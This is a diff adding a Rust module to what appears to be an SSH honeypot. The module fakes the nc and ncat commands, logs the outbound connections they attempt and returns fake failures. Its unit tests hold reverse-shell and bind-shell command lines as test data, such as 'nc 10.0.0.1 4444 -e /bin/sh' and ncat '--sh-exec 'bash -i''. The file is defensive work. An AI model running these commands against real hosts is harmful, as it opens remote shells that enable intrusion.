@@ -0,0 +1,276 @@
+use async_trait::async_trait;
+use thrussh::ChannelId;
+
+use crate::{
+    command::{connect_out, Command, CommandResult, Target},
+    server::{ConnectionState, ThrusshSession},
+};
+
+/// Short options taking an argument across the various netcats, which may be bundled along with
+/// them.
+const OPTIONS_WITH_ARGUMENTS: &str = "ecgGiIMmOpPqsTVwWxX";
+
+/// Long options `ncat` takes an argument to.
+const LONG_OPTIONS_WITH_ARGUMENTS: &[&str] = &[
+    "source",
+    "source-port",
+    "wait",
+    "idle-timeout",
+    "proxy",
+    "proxy-type",
+    "proxy-auth",
+    "proxy-dns",
+    "allow",
+    "allowfile",
+    "deny",
+    "denyfile",
+    "output",
+    "hex-dump",
+    "max-conns",
+    "ssl-cert",
+    "ssl-key",
+];
+
+const USAGE: &str = "usage: nc [-46CDdFhklNnrStUuvZz] [-I length] [-i interval] [-M ttl]
+\t  [-m minttl] [-O length] [-P proxy_username] [-p source_port]
+\t  [-q seconds] [-s sourceaddr] [-T keyword] [-V rtable] [-W recvlimit]
+\t  [-w timeout] [-X proxy_protocol] [-x proxy_address[:port]]
+\t  [destination] [port]\n";
+
+#[derive(Debug, PartialEq, Eq)]
+enum Invocation {
+    Connect {
+        target: Target,
+        verbose: bool,
+    },
+    /// Listening for a connection, as a bind shell does, which is left waiting forever.
+    Listen,
+    /// Scanning ports with `-z`, which never finds anything open.
+    Scan,
+    MissingHost,
+    InvalidPort(String),
+}
+
+fn parse(params: &[String]) -> Invocation {
+    let mut operands = Vec::new();
+    let mut program = None;
+    let (mut listen, mut scan, mut verbose) = (false, false, false);
+    let mut params = params.iter();
+
+    while let Some(param) = params.next() {
+        if let Some(long) = param.strip_prefix("--") {
+            let (name, value) = long
+                .split_once('=')
+                .map_or((long, None), |(name, value)| (name, Some(value)));
+            let takes_argument = matches!(name, "exec" | "sh-exec" | "lua-exec")
+                || LONG_OPTIONS_WITH_ARGUMENTS.contains(&name);
+            let value = match value {
+                Some(value) => Some(value),
+                None if takes_argument => params.next().map(String::as_str),
+                None => None,
+            };
+
+            match name {
+                "exec" | "sh-exec" | "lua-exec" => program = value.map(str::to_string),
+                "listen" => listen = true,
+                "verbose" => verbose = true,
+                "zero" => scan = true,
+                _ => {}
+            }
+
+            continue;
+        }
+
+        let Some(options) = param.strip_prefix('-').filter(|v| !v.is_empty()) else {
+            operands.push(param.as_str());
+            continue;
+        };
+
+        for (i, option) in options.char_indices() {
+            match option {
+                'l' => listen = true,
+                'v' => verbose = true,
+                'z' => scan = true,
+                _ if OPTIONS_WITH_ARGUMENTS.contains(option) => {
+                    let rest = &options[i + option.len_utf8()..];
+                    let value = if rest.is_empty() {
+                        params.next().map(String::as_str)
+                    } else {
+                        Some(rest)
+                    };
+
+                    if matches!(option, 'e' | 'c') {
+                        program = value.map(str::to_string);
+                    }
+
+                    break;
+                }
+                _ => {}
+            }
+        }
+    }
+
+    if listen {
+        return Invocation::Listen;
+    }
+
+    let [host, port, ..] = operands[..] else {
+        return Invocation::MissingHost;
+    };
+
+    // port ranges are only of any use for scanning, so connect to the first
+    let Ok(port) = port.split('-').next().unwrap_or_default().parse() else {
+        return Invocation::InvalidPort(port.to_string());
+    };
+
+    if scan {
+        return Invocation::Scan;
+    }
+
+    Invocation::Connect {
+        target: Target {
+            host: host.to_string(),
+            port,
+            program,
+        },
+        verbose,
+    }
+}
+
+/// OpenBSD's netcat, as installed by most distributions.
+#[derive(Debug, Clone)]
+pub struct Nc {}
+
+#[async_trait]
+impl Command for Nc {
+    const NAME: &'static str = "nc";
+    const ALIASES: &'static [&'static str] = &["netcat"];
+
+    async fn new<S: ThrusshSession + Send>(
+        connection: &mut ConnectionState,
+        params: &[String],
+        channel: ChannelId,
+        session: &mut S,
+    ) -> CommandResult<Self> {
+        let (out, status) = match parse(params) {
+            Invocation::Connect { target, verbose } => {
+                let (host, port) = (target.host.clone(), target.port);
+                connect_out(connection, Self::NAME, target).await;
+
+                if !verbose {
+                    return CommandResult::Exit(1);
+                }
+
+                (
+                    format!(
+                        "nc: connect to {host} port {port} (tcp) failed: Connection timed out\n"
+                    ),
+                    1,
+                )
+            }
+            Invocation::Listen => return CommandResult::ReadStdin(Self {}),
+            Invocation::Scan => return CommandResult::Exit(1),
+            Invocation::MissingHost => (USAGE.to_string(), 1),
+            Invocation::InvalidPort(port) => (format!("nc: port number invalid: {port}\n"), 1),
+        };
+
+        session.data(channel, out.into());
+        CommandResult::Exit(status)
+    }
+
+    async fn stdin<S: ThrusshSession + Send>(
+        self,
+        _connection: &mut ConnectionState,
+        _channel: ChannelId,
+        _data: &[u8],
+        _session: &mut S,
+    ) -> CommandResult<Self> {
+        // nobody's ever going to connect to the listener
+        CommandResult::ReadStdin(self)
+    }
+}
+
+/// Nmap's netcat.
+#[derive(Debug, Clone)]
+pub struct Ncat {}
+
+#[async_trait]
+impl Command for Ncat {
+    const NAME: &'static str = "ncat";
+
+    async fn new<S: ThrusshSession + Send>(
+        connection: &mut ConnectionState,
+        params: &[String],
+        channel: ChannelId,
+        session: &mut S,
+    ) -> CommandResult<Self> {
+        let (out, status) = match parse(params) {
+            Invocation::Connect { target, .. } => {
+                connect_out(connection, Self::NAME, target).await;
+                ("Ncat: TIMEOUT.\n".to_string(), 1)
+            }
+            Invocation::Listen => return CommandResult::ReadStdin(Self {}),
+            Invocation::Scan => return CommandResult::Exit(1),
+            Invocation::MissingHost => (
+                "Ncat: You must specify a host to connect to. QUITTING.\n".to_string(),
+                2,
+            ),
+            Invocation::InvalidPort(port) => (
+                format!("Ncat: Invalid port number \"{port}\". QUITTING.\n"),
+                2,
+            ),
+        };
+
+        session.data(channel, out.into());
+        CommandResult::Exit(status)
+    }
+
+    async fn stdin<S: ThrusshSession + Send>(
+        self,
+        _connection: &mut ConnectionState,
+        _channel: ChannelId,
+        _data: &[u8],
+        _session: &mut S,
+    ) -> CommandResult<Self> {
+        CommandResult::ReadStdin(self)
+    }
+}
+
+#[cfg(test)]
+mod test {
+    use test_case::test_case;
+
+    use crate::command::{
+        nc::{parse, Invocation},
+        Target,
+    };
+
+    #[test_case("10.0.0.1 4444 -e /bin/sh", "10.0.0.1", 4444, Some("/bin/sh"), false; "traditional")]
+    #[test_case("-nv 10.0.0.1 4444 -c bash", "10.0.0.1", 4444, Some("bash"), true; "bundled")]
+    #[test_case("-w 5 evil.example 80", "evil.example", 80, None, false; "option argument")]
+    #[test_case("--sh-exec 'bash -i' 10.0.0.1 443 --ssl", "10.0.0.1", 443, Some("bash -i"), false; "ncat")]
+    #[test_case("--exec=/bin/bash 10.0.0.1 443", "10.0.0.1", 443, Some("/bin/bash"), false; "ncat equals")]
+    fn connects(input: &str, host: &str, port: u16, program: Option<&str>, verbose: bool) {
+        let input = shlex::split(input).unwrap();
+        assert_eq!(
+            parse(&input),
+            Invocation::Connect {
+                target: Target {
+                    host: host.to_string(),
+                    port,
+                    program: program.map(str::to_string),
+                },
+                verbose,
+            }
+        );
+    }
+
+    #[test_case("-lvnp 4444 -e /bin/sh", Invocation::Listen; "listen")]
+    #[test_case("-zv 10.0.0.1 20-80", Invocation::Scan; "scan")]
+    #[test_case("-v", Invocation::MissingHost; "missing host")]
+    #[test_case("10.0.0.1 http", Invocation::InvalidPort("http".to_string()); "invalid port")]
+    fn other(input: &str, expected: Invocation) {
+        let input = shlex::split(input).unwrap();
+        assert_eq!(parse(&input), expected);
+    }
+}